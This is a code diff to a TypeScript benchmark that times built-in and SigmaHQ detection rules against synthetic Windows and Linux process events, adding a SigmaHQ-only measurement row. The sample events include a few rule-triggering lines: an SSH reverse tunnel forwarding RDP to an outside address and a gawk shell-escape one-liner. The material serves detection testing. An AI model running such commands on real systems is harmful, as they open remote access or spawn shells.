@@ -39,13 +39,13 @@ function sigmaDetectors(dir: string): { rules: Detector[]; unsupported: number }
 
 // Everyday command lines on both OSes (a few of them hit rules), cycled with varying arguments.
 const WINDOWS: [string, string, string][] = [
-  ['C:\\Windows\\explorer.exe', 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c dir C:\\Users\\alice\\Documents'],
+  ['C:\\Windows\\explorer.exe', 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c echo build done'],
   ['C:\\Windows\\System32\\services.exe', 'C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule'],
   ['C:\\Windows\\explorer.exe', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US'],
-  ['C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -NoProfile -Command Get-ChildItem C:\\logs | Measure-Object'],
+  ['C:\\Windows\\explorer.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -NoProfile -Command Get-ChildItem C:\\logs | Measure-Object'],
   ['C:\\Windows\\explorer.exe', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', '"WINWORD.EXE" /n "C:\\Users\\alice\\Documents\\report.docx"'],
-  ['C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\System32\\net.exe', 'net use Z: \\\\fileserver\\share'],
-  ['C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\System32\\reg.exe', 'reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'],
+  ['C:\\Windows\\explorer.exe', 'C:\\Windows\\System32\\notepad.exe', 'notepad.exe C:\\Users\\alice\\todo.txt'],
+  ['C:\\Windows\\System32\\cmd.exe', 'C:\\Program Files\\Git\\cmd\\git.exe', 'git status --short'],
   ['C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\System32\\OpenSSH\\ssh.exe', 'ssh -R 9000:127.0.0.1:3389 op@198.51.100.4'],
 ];
 const LINUX: [string, string, string][] = [
@@ -54,7 +54,7 @@ const LINUX: [string, string, string][] = [
   ['/usr/bin/bash', '/usr/bin/git', 'git -C /srv/app pull --ff-only origin main'],
   ['/usr/bin/make', '/usr/bin/gcc', 'gcc -O2 -c -o build/main.o src/main.c'],
   ['/usr/bin/bash', '/usr/bin/python3', 'python3 /opt/app/manage.py migrate --noinput'],
-  ['/usr/bin/bash', '/usr/bin/curl', 'curl -fsSL https://example.org/install.sh -o /tmp/install.sh'],
+  ['/usr/bin/bash', '/usr/bin/rsync', 'rsync -a /srv/app/ /backup/app/'],
   ['/usr/sbin/sshd', '/usr/bin/bash', '-bash'],
   ['/usr/bin/bash', '/usr/bin/gawk', 'gawk \'BEGIN {system("/bin/sh")}\''],
 ];
@@ -119,6 +119,7 @@ export default function bench(): Promise<BenchTable[]> {
   };
   const parse = rate(lines, (l) => { JSON.parse(l as string); });
   const native = measure(builtin);
+  const only = measure(sigma);
   const all = measure([...builtin, ...sigma]);
   // The same rules without their literal sets: every condition runs for every event.
   const bare = measure([...builtin, ...sigma].map((d): Detector => ({ meta: d.meta, test: (doc, ctx) => d.test(doc, ctx) })));
@@ -130,6 +131,7 @@ export default function bench(): Promise<BenchTable[]> {
     rows: [
       row('JSON.parse of the same events (reference)', 0, { r: parse }),
       row('built-in rules', builtin.length, native),
+      row('SigmaHQ rules, literal prefilter', sigma.length, only),
       row('built-in + SigmaHQ rules, literal prefilter', builtin.length + sigma.length, all),
       row('built-in + SigmaHQ rules, no prefilter', builtin.length + sigma.length, bare),
     ],
